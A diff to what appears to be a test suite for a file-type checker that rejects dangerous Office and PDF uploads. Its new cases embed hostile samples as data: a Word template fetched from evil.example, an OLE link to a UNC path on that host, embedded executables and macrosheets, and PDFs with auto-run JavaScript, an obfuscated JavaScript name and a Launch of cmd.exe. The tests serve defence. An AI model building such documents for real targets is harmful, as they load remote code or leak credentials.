@@ -23,6 +23,18 @@ def archive(*names: str) -> bytes:
 TYPES = "[Content_Types].xml"
 
 
+def related(kind: str, target: str) -> bytes:
+    """A document with one part elsewhere."""
+    buffer = io.BytesIO(archive(TYPES, "word/document.xml"))
+    with zipfile.ZipFile(buffer, "a") as made:
+        schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+        link = f'<Relationship Id="r1" Type="{schema}/{kind}" Target="{target}" TargetMode="External"/>'
+        made.writestr(
+            zipfile.ZipInfo("word/_rels/settings.xml.rels"), f"<Relationships>{link}</Relationships>"
+        )
+    return buffer.getvalue()
+
+
 def compound(*names: str) -> bytes:
     """The head and the directory of a compound file with these entries."""
     entries = [
@@ -45,6 +57,20 @@ def compound(*names: str) -> bytes:
         (archive(TYPES, "xl/workbook.xml"), "xlsx"),
         (archive("照片.jpg"), "zip"),
         (archive(TYPES, "xl/workbook.xml", "xl/vbaProject.bin"), ""),
+        (archive(TYPES, "xl/workbook.xml", "xl/macrosheets/sheet1.xml"), ""),
+        (archive(TYPES, "word/document.xml", "word/embeddings/x.exe"), ""),
+        (archive(TYPES, "word/document.xml", "word/embeddings/oleObject1.bin"), "docx"),  # an equation
+        (archive(TYPES, "word/document.xml", "META-INF/MANIFEST.MF", "x.class"), ""),
+        (archive("a.EXE."), ""),
+        (archive("说明.docx", "扫描/1.jpg"), "zip"),
+        (related("attachedTemplate", "http://evil.example/x.dotm"), ""),
+        (related("attachedTemplate", "file:///C:/Users/li/Normal.dotm"), "docx"),  # as Word writes it
+        (related("oleObject", "\\\\evil.example\\x"), ""),
+        (related("hyperlink", "https://www.example/"), "docx"),
+        (b"%PDF-1.7\n<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", ""),
+        (b"%PDF-1.7\n<</S/J#61vaScript>>", ""),
+        (b"%PDF-1.7\n<</S/Launch/F(cmd.exe)>>", ""),
+        (b"%PDF-1.7\n<</Launcher 1/JSX 2>>", "pdf"),
         (archive(TYPES, "ppt/presentation.xml"), ""),
         (archive(*(f"{n}" for n in range(MOST_NAMES + 1))), ""),
         (archive("a.txt")[:-10], ""),  # half an archive
